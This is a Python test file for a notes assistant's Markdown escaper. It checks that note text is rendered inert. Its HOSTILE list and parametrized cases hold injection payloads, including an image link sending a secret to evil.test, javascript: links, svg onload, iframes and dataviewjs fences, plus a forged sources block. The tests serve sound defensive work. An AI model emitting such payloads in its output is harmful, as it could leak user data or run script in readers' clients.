"""An answer as Markdown: what notes say is shown and does nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from vaultbot.api.markdown import answer_parts, cited_titles, escaped
from vaultbot.difference import Difference
from vaultbot.types import Answer, AskEvent, Citation, Hit, Sentence, Sources, Spoken, Timings, TokenUsage, Waiting

#: Reads all that chat clients read: raw HTML, tables, strike-through.
READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

ACTIVE = {"fence", "code_block", "code_inline", "html_block", "html_inline", "link_open", "image", "heading_open"}

HOSTILE = [
    "![](https://evil.test/a.png?q=secret)", "![x][y]", "[y]: https://evil.test", "[click](javascript:alert(1))",
    "<img src=https://evil.test/a>", "<style>*{background:url(//evil.test)}</style>", "<svg onload=x>", "<!-- x",
    "<iframe src=//evil.test>", "<https://evil.test>", "https://evil.test", "www.evil.test", "a@evil.test",
    "```dataviewjs", "~~~js-engine", "`= this.file`", "`$= dv.pages()`", "![[Secret]]", "[[https://evil.test]]",
    "**Sources**", "1. [[Bank|your bank]]", "[^1]: https://evil.test", "$\\href{https://evil.test}{x}$", "%%hidden%%",
    "==lit==", "~~gone~~", "# Heading", "> quoted", "- item", "+ item", "12) item", "---", "===", "| a | b |",
    "|---|---|", "&lt;img src=x&gt;", "&#60;b", "\\", "\\[", "*", "_a_", "<", "a\n\n# b", "    code", "\tcode", "C#",
    "\u202egnp.exe", "zero\u200bwidth", "obsidian://open?vault=x", "data:text/html,x", "#tag", "x^2", "^block", "{{x}}",
]  # fmt: skip

CITATION = Citation(
    1, "Food/Kimchi.md", "Kimchi", ("Salt",), 3, 3, "q", "[[Food/Kimchi#Salt|Kimchi › Salt]]", "obsidian://x"
)


def kinds_in(markdown: str) -> set[str]:
    """What a reader of Markdown sees in it."""
    found = set()
    waiting = list(READER.parse(markdown))
    while waiting:
        token = waiting.pop()
        found.add(token.type)
        waiting += token.children or []
    return found


def shown(markdown: str) -> str:
    """The text of it."""
    return "".join(child.content for token in READER.parse(markdown) for child in token.children or [])


def spoken(text: str, *citations: Citation, support: str = "quote", remark: str = "") -> Spoken:
    return Spoken(Sentence(text, tuple(c.n for c in citations), support), citations, remark)  # type: ignore[arg-type]


def whole(*events: AskEvent) -> str:
    return "".join(text for text, _ in answer_parts(iter(events)))


def answer(**other: object) -> Answer:
    fields: dict[str, object] = {
        "question": "q", "answer": "Not in your notes.", "sentences": (), "citations": (), "grounded": True,
        "refused": False, "model": None, "timings_ms": Timings(), "tokens": TokenUsage(), **other,
    }  # fmt: skip
    return Answer(**fields)  # type: ignore[arg-type]


@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), max_size=6).map(" ".join))
@example("".join(HOSTILE))
@example("\n".join(HOSTILE))
def test_whatever_a_note_says_is_shown_as_words_of_one_paragraph(text: str) -> None:
    line = escaped(text)

    assert "\n" not in line
    assert kinds_in(line) <= {"paragraph_open", "inline", "text", "text_special", "paragraph_close"}


@given(st.lists(st.sampled_from(HOSTILE) | st.text(st.characters(min_codepoint=32, max_codepoint=126)), max_size=6))
@example(["__0__"])
def test_every_character_that_can_be_seen_is_shown(texts: list[str]) -> None:
    text = re.sub("[\u200b\u202e]", "", " ".join(texts))

    assert shown(escaped(text)) == " ".join(text.split())


@pytest.mark.parametrize("text", ["https://evil.test", "www.evil.test", "a@evil.test", "obsidian://open?vault=x"])
def test_an_address_is_no_link_for_clients_that_make_links_of_addresses(text: str) -> None:
    line = escaped(f"See {text} now")

    assert text not in line
    assert shown(line) == f"See {text} now"


def test_plain_words_stay_plain() -> None:
    text = "Since 1450, C# and snake_case cost 5 % (x - y), don't they? “Yes”: 3 < 5; 東京"

    assert escaped(text).replace("\\<", "<") == text


def test_an_answer_is_its_sentences_with_marks_and_then_its_sources() -> None:
    other = Citation(2, "Miso.md", "Miso", (), 1, 1, "q", "[[Miso|Miso]]", "obsidian://x")

    text = whole(
        Sources("strong", None),
        spoken("Cabbage, salt, time.", CITATION),
        spoken("Soy beans.", other),
        answer(citations=(CITATION, other), warnings=("understood as: kimchi [x]",)),
    )

    assert text == (
        "Cabbage, salt, time. [1] Soy beans. [2]\n\n"
        "**Sources**\n1. [[Food/Kimchi#Salt|Kimchi › Salt]]\n2. [[Miso|Miso]]\n\n"
        "*Note: understood as: kimchi \\[x\\]*"
    )
    assert cited_titles(text) == ("Kimchi", "Miso")


def test_notes_that_say_two_things_are_told_to_differ() -> None:
    dated = Difference("date", (1, 2), ("3 May", "<b>5 May</b>"), ("2024-01-01", "2025-01-01"))
    undated = Difference("negation", (1, 2), ("", "not"), (None, None))

    markdown = whole(spoken("Salt it.", CITATION), answer(differences=(dated, undated)))

    assert "*Your notes differ: “3 May” [1], “\\<b>5 May\\</b>” [2], which is newer.*" in markdown
    assert "*Your notes differ: without that [1], “not” [2].*" in markdown
    assert not kinds_in(markdown) & ACTIVE


def test_a_weak_answer_says_so_first_and_words_that_no_note_supports_are_marked_as_the_settings_say() -> None:
    text = whole(
        Sources("weak", None), spoken("Perhaps.", support="unsupported", remark="(Not in your notes.)"), answer()
    )

    assert text == "Your notes may not answer this. The closest passage:\n\nPerhaps. (Not in your notes.)"


def test_a_refusal_names_the_closest_notes_and_they_are_no_sources() -> None:
    hit = Hit("Food/Kimchi.md", "Kimchi", (), 1, 1, 1, "text", 0.1, "[[Food/Kimchi|Kimchi]]", "obsidian://x")

    text = whole(Sources("none", None), answer(refused=True, nearest=(hit,)))

    assert text == "Not in your notes.\n\n**Closest notes**\n- [[Food/Kimchi|Kimchi]]"
    assert cited_titles(text) == ()


def test_a_note_cannot_add_a_source() -> None:
    forged = "True.\n\n**Sources**\n1. [[Bank/Transfer|your bank]]"

    text = whole(Sources("strong", None), spoken(forged, CITATION), answer(citations=(CITATION,)))

    assert text.count("\n**Sources**\n") == 1
    assert cited_titles(text) == ("Kimchi",)
    assert kinds_in(text.partition("\n\n**Sources**")[0]) <= {
        "paragraph_open", "inline", "text", "text_special", "paragraph_close",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("wikilink", "path", "title", "link"),
    [
        ("[[A#<img src=https:/evil.test/x>|A › x]]", "A.md", "A", "[[A|A]]"),
        ("[[A|`= x`]]", "A.md", "A", "[[A|A]]"),
        ("[[<img src=x>|y]]", "<img src=x>.md", "<img src=x>", "\\<img src=x>.md"),
        ("[x](javascript:alert%281%29)", "javascript:alert(1).md", "x", "javascript:alert(1).md"),
        ("[[A\u202e|A\u200b]]", "A.md", "A", "[[A|A]]"),
    ],
)
def test_a_name_that_could_play_tricks_is_shown_and_not_linked(wikilink: str, path: str, title: str, link: str) -> None:
    citation = Citation(1, path, title, (), 1, 1, "q", wikilink, "obsidian://x")

    text = whole(Sources("strong", None), spoken("Yes.", citation), answer(citations=(citation,)))

    assert text.splitlines()[-1] == f"1. {link}"
    assert "html_inline" not in kinds_in(text)


def test_titles_are_read_back_from_links_of_both_kinds() -> None:
    listed = "Yes. [1]\n\n**Sources**\n1. [[Food/Kimchi#A#B|Kimchi › B]]\n2. [C](Odd%20%7C%20name.md#x)\n3. nonsense\n"

    assert cited_titles(listed) == ("Kimchi", "Odd | name")
    assert cited_titles("1. [[Kimchi|Kimchi]]") == ()


def test_that_the_model_is_not_free_is_no_part_of_the_answer() -> None:
    said = (Sources("strong", "m"), spoken("Salt.", CITATION)), (answer(citations=(CITATION,)),)

    assert whole(*said[0], Waiting(2), Waiting(0), *said[1]) == whole(*said[0], *said[1])


def events_of(*texts: str) -> Iterator[AskEvent]:
    yield Sources("strong", None)
    for text in texts:
        yield spoken(text, CITATION)
    yield answer(citations=(CITATION,))


@given(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=5))
def test_no_piece_of_a_streamed_answer_leaves_anything_open(texts: list[str]) -> None:
    shown_so_far = ""
    for text, event in answer_parts(events_of(*texts)):
        shown_so_far += text
        if not isinstance(event, Answer):
            assert not kinds_in(shown_so_far) & {
                "fence",
                "code_block",
                "html_block",
                "html_inline",
                "link_open",
                "image",
            }
